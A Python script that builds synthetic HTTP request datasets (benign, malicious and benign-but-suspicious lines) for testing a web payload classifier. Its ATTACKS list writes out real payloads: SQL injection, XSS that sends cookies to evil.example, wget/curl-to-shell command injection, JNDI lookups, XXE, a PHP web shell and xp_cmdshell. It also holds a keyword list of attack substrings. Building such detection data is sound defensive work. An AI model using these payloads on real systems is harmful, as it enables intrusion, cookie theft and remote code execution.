"""Write samples/payloads.txt (benign HTTP request lines) and samples/dangerous-ngrams.txt.

The project's own small, license-free stand-in for a payload classifier's benign traffic: request
lines of a made-up shop, API and static site, built from fixed word lists with a fixed seed, so
the same bytes come out on every machine. Run from anywhere:

    python samples/make_payloads.py            # 3000 lines
    python samples/make_payloads.py --lines 500

For benchmarks (bench/value_payloads.py) it also writes labelled sets elsewhere, never into samples/:

    python samples/make_payloads.py --lines 2000 --malicious 2000 --out-dir /tmp/payloads --seed 7

writes benign.txt, malicious.txt (request lines carrying SQL injection, XSS, path traversal,
command injection, JNDI and XXE payloads) and benign-hard.txt (benign requests that merely mention
an attack keyword, e.g. a search for "union select tutorial"), one request a line.
"""

from __future__ import annotations

import argparse
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent

METHODS = ["GET"] * 12 + ["POST"] * 4 + ["PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"]
VERSIONS = ["HTTP/1.1"] * 6 + ["HTTP/2", "HTTP/1.0"]
SECTIONS = ["products", "cart", "orders", "users", "search", "blog", "help", "account", "checkout", "reviews"]
RESOURCES = ["item", "list", "detail", "summary", "history", "settings", "profile", "images", "tags", "stats"]
WORDS = [
    "red",
    "shoes",
    "coffee",
    "mug",
    "garden",
    "chair",
    "laptop",
    "bag",
    "winter",
    "jacket",
    "desk",
    "lamp",
    "book",
    "kids",
    "sale",
    "gift",
    "card",
    "phone",
    "case",
    "tea",
    "cotton",
    "shirt",
    "blue",
    "light",
]
PARAMS = ["q", "page", "sort", "limit", "offset", "lang", "currency", "ref", "utm_source", "category", "size", "color"]
SORTS = ["price_asc", "price_desc", "newest", "rating", "relevance"]
LANGS = ["en", "de", "fr", "es", "it", "nl"]
STATIC = [
    "css/site.css",
    "js/app.js",
    "js/vendor.min.js",
    "img/logo.png",
    "img/banner.jpg",
    "fonts/inter.woff2",
    "favicon.ico",
]
HEADERS = [
    "Accept: text/html,application/xhtml+xml",
    "Accept: application/json",
    "Accept-Language: en-US,en;q=0.9",
    "Content-Type: application/json",
    "Content-Type: application/x-www-form-urlencoded",
    "Cache-Control: no-cache",
    "Connection: keep-alive",
]
# Substrings that attacks use (SQL injection, XSS, traversal, command injection): benign rows that
# contain them teach a classifier that a keyword alone is not an attack.
DANGEROUS_NGRAMS = [
    "' OR '1'='1",
    "UNION SELECT",
    "SELECT * FROM",
    "DROP TABLE",
    "<script>",
    "</script>",
    "javascript:",
    "onerror=",
    "../../",
    "/etc/passwd",
    "; cat ",
    "| wget ",
    "$(curl",
    "%00",
    "<?php",
    "eval(",
    "base64_decode(",
    "${jndi:ldap://",
    "<!ENTITY",
    "xp_cmdshell",
]


def _value(rng: random.Random, name: str) -> str:
    if name == "q":
        return "+".join(rng.sample(WORDS, rng.randint(1, 3)))
    if name in ("page", "offset", "limit", "size"):
        return str(rng.randint(1, 200))
    if name == "sort":
        return rng.choice(SORTS)
    if name == "lang":
        return rng.choice(LANGS)
    if name == "currency":
        return rng.choice(["EUR", "USD", "GBP"])
    if name == "color":
        return rng.choice(WORDS[:12])
    return rng.choice(["newsletter", "google", "partner", "home", "email"])


def request_line(rng: random.Random) -> str:
    """One request line, sometimes followed by a header or a small body (on the same line)."""
    method = rng.choice(METHODS)
    roll = rng.random()
    if roll < 0.2:
        path = "/static/" + rng.choice(STATIC)
    elif roll < 0.55:
        path = f"/api/v{rng.randint(1, 3)}/{rng.choice(SECTIONS)}/{rng.randint(1, 99999)}"
        if rng.random() < 0.5:
            path += "/" + rng.choice(RESOURCES)
    else:
        path = "/" + rng.choice(SECTIONS) + "/" + "-".join(rng.sample(WORDS, rng.randint(1, 3)))
    if method == "GET" and rng.random() < 0.6:
        names = rng.sample(PARAMS, rng.randint(1, 4))
        path += "?" + "&".join(f"{n}={_value(rng, n)}" for n in names)
    line = f"{method} {path} {rng.choice(VERSIONS)}"
    if method in ("POST", "PUT", "PATCH") and rng.random() < 0.7:
        if rng.random() < 0.5:
            body = {"id": rng.randint(1, 9999), "qty": rng.randint(1, 5), "note": rng.choice(WORDS)}
            line += " " + json.dumps(body, separators=(",", ":"))
        else:
            line += f" name={rng.choice(WORDS)}&qty={rng.randint(1, 5)}"
    elif rng.random() < 0.3:
        line += " " + rng.choice(HEADERS)
    return line


ATTACKS = [
    "' OR '1'='1", "' OR 1=1--", "1 UNION SELECT username,password FROM users--", "1; DROP TABLE orders--",
    "admin'--", "1 AND SLEEP(5)", "' UNION SELECT NULL,NULL,version()--", "1) OR (1=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>", "\"><script>new Image().src='//x.example/?c='+document.cookie</script>",
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini", "/etc/passwd%00.png",
    "; cat /etc/passwd", "| wget http://evil.example/x.sh -O- | sh", "$(curl -s evil.example/p|bash)", "`id`",
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://x.example:1099/o}",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
    "<?php system($_GET['c']); ?>", "eval(base64_decode('ZWNobyAxOw=='))", "1; EXEC xp_cmdshell 'dir'",
]  # fmt: skip
HARMLESS_MENTIONS = [
    "union+select+tutorial", "how+to+drop+table+safely", "script+tag+html", "etc+passwd+file+meaning",
    "javascript+course", "php+eval+function", "xml+entity+example", "select+from+where+sql", "curl+command+examples",
    "base64+decode+online", "jndi+lookup+java", "cat+command+linux",
]  # fmt: skip


def malicious_line(rng: random.Random) -> str:
    """A request line of the same shop with an attack payload in a parameter, the path or the body."""
    from urllib.parse import quote

    attack = rng.choice(ATTACKS)
    encoded = attack if rng.random() < 0.5 else quote(attack, safe="")
    base = request_line(rng)
    method, _, rest = base.partition(" ")
    path, _, tail = rest.partition(" ")
    roll = rng.random()
    if roll < 0.55:
        name = rng.choice(PARAMS)
        path += ("&" if "?" in path else "?") + f"{name}={encoded}"
    elif roll < 0.75:
        path = path.split("?")[0].rsplit("/", 1)[0] + "/" + encoded
    else:
        method = rng.choice(["POST", "PUT"])
        tail = (
            tail.split(" ")[0] + " " + json.dumps({"id": rng.randint(1, 9999), "note": attack}, separators=(",", ":"))
        )
    return f"{method} {path} {tail}".rstrip()


def benign_hard_line(rng: random.Random) -> str:
    """A benign request that mentions an attack keyword (a search, a help page) without an attack."""
    if rng.random() < 0.5:
        return f"GET /search?q={rng.choice(HARMLESS_MENTIONS)}&page={rng.randint(1, 9)} {rng.choice(VERSIONS)}"
    words = rng.choice(HARMLESS_MENTIONS).replace("+", "-")
    return f"GET /{rng.choice(['blog', 'help'])}/{words} {rng.choice(VERSIONS)}"


def write_sets(out_dir: Path, lines: int, malicious: int, seed: int) -> None:
    """benign.txt, malicious.txt and benign-hard.txt in ``out_dir`` (see the module docstring)."""
    rng = random.Random(seed)
    out_dir.mkdir(parents=True, exist_ok=True)
    sets = {
        "benign.txt": [request_line(rng) for _ in range(lines)],
        "malicious.txt": [malicious_line(rng) for _ in range(malicious)],
        "benign-hard.txt": [benign_hard_line(rng) for _ in range(max(1, lines // 4))],
    }
    for name, rows in sets.items():
        (out_dir / name).write_text("\n".join(rows) + "\n", encoding="utf-8")
    print(f"wrote {', '.join(f'{len(r)} {n}' for n, r in sets.items())} to {out_dir}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=3000)
    parser.add_argument("--seed", type=int, default=20240)
    parser.add_argument("--malicious", type=int, default=0, help="also write labelled sets (needs --out-dir)")
    parser.add_argument("--out-dir", type=Path, default=None, help="folder for benign/malicious/benign-hard sets")
    args = parser.parse_args()
    if args.out_dir is not None:
        write_sets(args.out_dir, args.lines, args.malicious, args.seed)
        return
    rng = random.Random(args.seed)
    lines = [request_line(rng) for _ in range(args.lines)]
    (HERE / "payloads.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (HERE / "dangerous-ngrams.txt").write_text(
        "# Substrings seen in attacks; inserted into benign synthetic rows as complex tokens.\n"
        + "\n".join(DANGEROUS_NGRAMS)
        + "\n",
        encoding="utf-8",
    )
    print(f"wrote {len(lines)} lines to {HERE / 'payloads.txt'} and {len(DANGEROUS_NGRAMS)} n-grams")


if __name__ == "__main__":
    main()
